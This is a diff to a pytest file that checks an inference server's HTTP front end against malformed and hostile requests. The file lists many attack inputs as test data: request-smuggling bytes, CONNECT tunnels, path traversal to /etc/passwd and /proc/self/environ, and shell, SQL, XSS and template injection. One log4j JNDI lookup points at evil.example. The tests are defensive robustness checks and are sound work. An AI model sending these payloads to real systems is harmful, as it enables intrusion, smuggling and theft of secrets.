@@ -23,79 +23,60 @@ SMUGGLED = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n"
 CHUNK = b"%x\r\n%s\r\n" % (len(BODY), BODY)
 END = b"0\r\n\r\n"
 
-ENDS: dict[str, bytes] = {
-    # lengths
-    "a length and chunks": POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
-    "chunks and a length": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
-    "the same length twice": POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
-    "a negative length": POST + b"Content-Length: -2\r\n\r\n{}",
-    "a length in hexadecimal": POST + b"Content-Length: 0x2\r\n\r\n{}",
-    "a length that is empty": POST + b"Content-Length: \r\n\r\n{}",
-    "a length with a fraction": POST + b"Content-Length: 2.0\r\n\r\n{}",
-    "a length of 2 to the 64": POST + b"Content-Length: 18446744073709551616\r\n\r\n{}",
-    "a length of 4000 digits": POST + b"Content-Length: " + b"9" * 4000 + b"\r\n\r\n{}",
-    "a space before the colon of a length": POST + b"Content-Length : 2\r\n\r\n{}",
-    # transfer encodings
-    "chunked and then identity": POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
-    "the encoding identity": POST + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n",
-    "an encoding that looks like chunked": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
-    "chunked behind a vertical tab": POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
-    "gzip and then chunked": POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + CHUNK + END,
-    "an encoding of a request without a body": GET + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + END,
-    "chunks in HTTP/1.0": CHUNKED.replace(b"HTTP/1.1", b"HTTP/1.0") + CHUNK + END,
-    # chunks
-    "a chunk of negative size": CHUNKED + b"-1\r\n\r\n",
-    "a chunk size past 64 bits": CHUNKED + b"f" * 18 + b"\r\n\r\n",
-    "a chunk without a size": CHUNKED + b"\r\na\r\n0\r\n\r\n",
-    "chunks with bare line feeds": CHUNKED + b"%x\n%s\n0\n\n" % (len(BODY), BODY),
-    "a chunk longer than it says": CHUNKED + b"1\r\nab\r\n0\r\n\r\n",
-    "a chunk extension with a zero byte": CHUNKED + b"1;a=\0\r\na\r\n0\r\n\r\n",
-    # header lines
-    "no host": LINE + b"\r\n",
-    "no host, and a whole URL": b"GET http://localhost/v2/models HTTP/1.1\r\n\r\n",
-    "two hosts": GET + b"Host: evil.example\r\n\r\n",
-    "two hosts in HTTP/1.0": GET.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Host: evil.example\r\n\r\n",
-    "a host with a user in it": LINE + b"Host: evil.example@localhost\r\n\r\n",
-    "a host that is a URL": LINE + b"Host: http://localhost\r\n\r\n",
-    "a host with a port that is a word": LINE + b"Host: localhost:http\r\n\r\n",
-    "two tokens": GET + b"Authorization: Bearer a\r\nAuthorization: Bearer b\r\n\r\n",
-    "two origins": GET + b"Origin: http://localhost\r\nOrigin: http://evil.example\r\n\r\n",
-    "two sites": GET + b"Sec-Fetch-Site: none\r\nSec-Fetch-Site: cross-site\r\n\r\n",
-    "a header folded over two lines": GET + b"A: b\r\n c\r\n\r\n",
-    "a first header that is folded": GET + b" A: b\r\n\r\n",
-    "a header without a colon": GET + b"Nothing\r\n\r\n",
-    "a header name with a space": GET + b"A b: c\r\n\r\n",
-    "a header value with a zero byte": GET + b"A: b\0\r\n\r\n",
-    "a header value with an escape": GET + b"A: \x1b[31m\r\n\r\n",
-    "a bare carriage return": GET + b"A: b\rB: c\r\n\r\n",
-    "bare line feeds": b"GET /v2/models HTTP/1.1\nA: b\n\n",
-    "headers of 100 kB": GET + b"A: b\r\n" * 16_000 + b"\r\n",
-    "empty lines without end": b"\r\n" * 20_000,
-    # request lines
-    "a method of 100 kB": b"G" * 100_000,
-    "a method that does not exist": b"STEAL /v2/models HTTP/1.1\r\n\r\n",
-    "a tab for a space": b"GET\t/v2/models\tHTTP/1.1\r\n\r\n",
-    "a path with a space": b"GET /v2/models /x HTTP/1.1\r\nHost: localhost\r\n\r\n",
-    "a path with a zero byte": b"GET /v2/mod\0els HTTP/1.1\r\nHost: localhost\r\n\r\n",
-    "a path of 100 kB": b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n",
-    "HTTP/0.9": b"GET /v2/models\r\n\r\n",
-    "HTTP/2.0 in text": b"GET /v2/models HTTP/2.0\r\nHost: localhost\r\n\r\n",
-    "a protocol that is not HTTP": b"GET /v2/models ICY/1.1\r\n\r\n",
-    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
-    "a greeting of TLS": bytes.fromhex("16030100f8010000f40303") + bytes(240),
-    "bytes without meaning": bytes(range(256)) * 4,
-    # targets that are no paths
-    "a URL without a host": b"GET http:///v2/models HTTP/1.1\r\nHost: localhost\r\n\r\n",
-    "a URL with a user in it": b"GET http://a@localhost/v2/models HTTP/1.1\r\nHost: localhost\r\n\r\n",
-    "an asterisk for a target": b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
-    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n" + SMUGGLED,
-    # other protocols behind HTTP
-    "an upgrade to HTTP/2": GET + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\r\n" + SMUGGLED,
-    "a websocket": GET + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
-}
+LENGTHS = b"-2|+2|0x2|2 0||two|2.0|2, 2|18446744073709551616".split(b"|")
+CODINGS = b'chunked, identity|identity|xchunked|\x0bchunked|"chunked"|, chunked|gzip, chunked|gzip'.split(b"|")
+HEADERS = b"A: b\r\n c|A: b\r\n\tc| A: b|Nothing|: a|A b: c|A\0: b|A: b\0|A: \x1b[31m|A: \x7f|A: b\rB: c".split(b"|")
+TWICE = [b"Host: evil.example", b"Host: localhost", b"Authorization: Bearer a\r\nAuthorization: Bearer b"]
+TWICE += [b"Origin: http://localhost\r\nOrigin: http://evil.example", "\u00c4: b".encode()]
+TWICE += [b"Sec-Fetch-Site: none\r\nSec-Fetch-Site: cross-site"]
+HOSTS = b"evil.example@localhost|http://localhost|localhost, evil.example|localhost:http".split(b"|")
+TARGETS = b"/v2/models /x|/v2/mod\0els|/v2/mod\x07els|http:///v2/models|http://a@localhost/v2|file:///v2".split(b"|")
+VERSIONS = b"HTTP/0.9|HTTP/2.0|HTTP/9.9|HTTP/1.1.1|ICY/1.1".split(b"|")
+OLD = CHUNKED.replace(b"HTTP/1.1", b"HTTP/1.0")
+ENDS = [
+    *[POST + b"Content-Length: %b\r\n\r\n{}" % length for length in (*LENGTHS, b"9" * 4000, "\u0662".encode())],
+    POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+    POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
+    POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
+    POST + b"Content-Length : 2\r\n\r\n{}",
+    *[POST + b"Transfer-Encoding: %b\r\n\r\n" % coding + CHUNK + END for coding in CODINGS],
+    POST + b"Transfer-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n" + END,
+    GET + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + END,
+    OLD + CHUNK + END,
+    *[CHUNKED + size + b"\r\na\r\n0\r\n\r\n" for size in (b"-1", b"f" * 18, b"", b"0x1", b"1;a=\0", b"1 ")],
+    CHUNKED + b"%x\n%s\n0\n\n" % (len(BODY), BODY),
+    CHUNKED + b"1\r\nab\r\n0\r\n\r\n",
+    LINE + b"\r\n",
+    b"GET http://localhost/v2/models HTTP/1.1\r\n\r\n",
+    *[GET + header + b"\r\n\r\n" for header in (*HEADERS, *TWICE)],
+    GET.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Host: evil.example\r\n\r\n",
+    *[LINE + b"Host: %b\r\n\r\n" % host for host in HOSTS],
+    b"GET /v2/models HTTP/1.1\nA: b\n\n",
+    GET + b"A: b\r\n" * 16_000 + b"\r\n",
+    GET + b"A: " + b"b" * 100_000 + b"\r\n\r\n",
+    GET + b"A" * 100_000 + b": b\r\n\r\n",
+    b"\r\n" * 20_000,
+    b"G" * 100_000,
+    *[b"%b /v2/models HTTP/1.1\r\n\r\n" % method for method in (b"get", b"STEAL")],
+    b"GET\t/v2/models\tHTTP/1.1\r\n\r\n",
+    *[b"GET %b HTTP/1.1\r\nHost: localhost\r\n\r\n" % target for target in (*TARGETS, b"/" + b"a" * 100_000)],
+    b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
+    b"CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n" + SMUGGLED,
+    b"CONNECT /v2/models HTTP/1.1\r\nHost: localhost\r\n\r\n" + SMUGGLED,
+    b"GET /v2/models\r\n\r\n",
+    *[b"GET /v2/models %b\r\nHost: localhost\r\n\r\n" % version for version in VERSIONS],
+    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    bytes.fromhex("16030100f8010000f40303") + bytes(240),  # a greeting of TLS
+    b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
+    b"EHLO evil.example\r\nMAIL FROM:<a@evil.example>\r\n",
+    bytes(range(256)) * 4,
+    GET + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\r\n" + SMUGGLED,
+    POST + b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 2\r\n\r\n{}" + SMUGGLED,
+    GET + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
+]
 
 
-@pytest.mark.parametrize("raw", ENDS.values(), ids=ENDS.keys())
+@pytest.mark.parametrize("raw", ENDS, ids=[ascii(raw[-60:])[2:-1] for raw in ENDS])
 def test_what_is_not_quite_http_gets_one_error_and_the_connection_ends(site: Site, raw: bytes) -> None:
     reply, rest = send_raw(site, raw)
     assert reply.status in {400, 413, 415, 431}
@@ -170,44 +151,29 @@ def test_what_is_collected_of_bodies_is_bounded_over_all_connections() -> None:
 # Paths and names that lead out of the house ---------------------------------------------------------------------------
 
 
-NOWHERE = {
-    "the folder above": "/v2/models/../../etc/passwd",
-    "the folder above, encoded": "/v2/models/%2e%2e/%2e%2e/etc/passwd",
-    "the folder above, encoded twice": "/v2/models/%252e%252e/%252e%252e",
-    "the folder above, in long UTF-8": "/v2/models/%c0%ae%c0%ae/%c0%af",
-    "the folder above, with backslashes": "/v2/models/..\\..\\windows",
-    "an encoded slash": "/v2/models/double%2fready",
-    "an encoded slash before the route": "/v2%2fmodels",
-    "a slash that is encoded twice": "/v2/models/double%252fready",
-    "a dot": "/v2/models/./double",
-    "a name that begins with a dot": "/v2/models/.double",
-    "a name that begins with a dash": "/v2/models/-double",
-    "a zero byte": "/v2/models/double%00",
-    "a line feed": "/v2/models/double%0aGET%20/v2",
-    "carriage return and line feed": "/v2/models/double%0d%0aSet-Cookie:%20a=b",
-    "an escape sequence": "/v2/models/%1b%5b31mred",
-    "a mark that turns text around": "/v2/models/double%e2%80%aelave",
-    "letters that look the same": "/v2/models/d%d0%beuble",
-    "bytes that are no UTF-8": "/v2/models/%ff%fe%fd",
-    "an encoding that is cut off": "/v2/models/double%",
-    "a name of 128 letters and one": "/v2/models/" + "a" * 129,
-    "a name of 10,000 letters": "/v2/models/" + "a" * 10_000,
-    "a path of 3000 parts": "/v2" + "/models" * 2000,
-    "a path of slashes": "/" * 10_000,
-    "a template of a shell": "/v2/models/$(id)",
-    "a script": "/v2/models/<script>alert(1)</script>",
-    "a lookup of log4j": "/v2/models/${jndi:ldap://evil.example/a}",
-    "a version below zero": "/v2/models/double/versions/-1",
-    "a version in other digits": "/v2/models/double/versions/%d9%a1",
-    "a version of 4000 digits": "/v2/models/double/versions/" + "9" * 4000,
-    "a version that is a path": "/v2/models/double/versions/..",
-    "the environment": "/v2/../proc/self/environ",
-    "a file of the source": "/latebind/server/frontend.py",
-    "management of another server": "/models?url=http://evil.example/a.mar",
-}
+# fmt: off
+NOWHERE = [
+    "/v2/models/../../etc/passwd", "/v2/models/%2e%2e/%2e%2e/etc/passwd", "/v2/models/%252e%252e/%252e%252e",
+    "/v2/models/.%2e/ready", "/v2/models/%c0%ae%c0%ae/%c0%af", "/v2/models/..\\..\\windows",
+    "/v2/models/..%5c..%5cwindows", "/v2/models/double%2fready", "/v2/models/double%2Fready", "/v2%2fmodels",
+    "/v2/models/double%252fready", "/v2/models/./double", "/v2/models/double/.", "/v2/models/...",
+    "/v2/models/.double", "/v2/models/-double", "/v2/models/double%00", "/v2/models/double%00.json",
+    "/v2/models/double%0aGET%20/v2", "/v2/models/double%0d%0aSet-Cookie:%20a=b", "/v2/models/%1b%5b31mred",
+    "/v2/models/double%e2%80%aelave", "/v2/models/d%d0%beuble", "/v2/models/dou%e2%80%8bble",
+    "/v2/models/%ef%bd%84ouble", "/v2/models/%ff%fe%fd", "/v2/models/%ed%a0%80", "/v2/models/double%",
+    "/v2/models/%zz", "/v2/models/{{7*7}}", "/v2/models/$(id)", "/v2/models/<script>alert(1)</script>",
+    "/v2/models/%25s%25n%25x", "/v2/models/${jndi:ldap://evil.example/a}", "/v2/models/double';DROP+TABLE+models;--",
+    "/v2/models/double/versions/-1", "/v2/models/double/versions/%d9%a1", "/v2/models/double/versions/1%20",
+    "/v2/models/double/versions/..", "/v2/models/double/versions/0x1", "/V2/MODELS/DOUBLE",
+    "/v2/../proc/self/environ", "/latebind/server/frontend.py", "/.git/config", "/admin", "/debug/pprof/heap",
+    "/models?url=http://evil.example/a.mar",
+]
+# fmt: on
+NOWHERE += ["/v2/models/" + "a" * 129, "/v2/models/" + "a" * 10_000, "/v2" + "/models" * 2000, "/" * 10_000]
+NOWHERE += ["/v2/models/double/versions/" + "9" * 4000]
 
 
-@pytest.mark.parametrize("path", NOWHERE.values(), ids=NOWHERE.keys())
+@pytest.mark.parametrize("path", NOWHERE, ids=[path[:60] for path in NOWHERE])
 def test_a_path_that_is_no_route_leads_nowhere(site: Site, path: str) -> None:
     target = quote(path, safe="/%?=&{}$();'<>\\-+*:,!@[]~")
     for method in ("GET", "POST"):
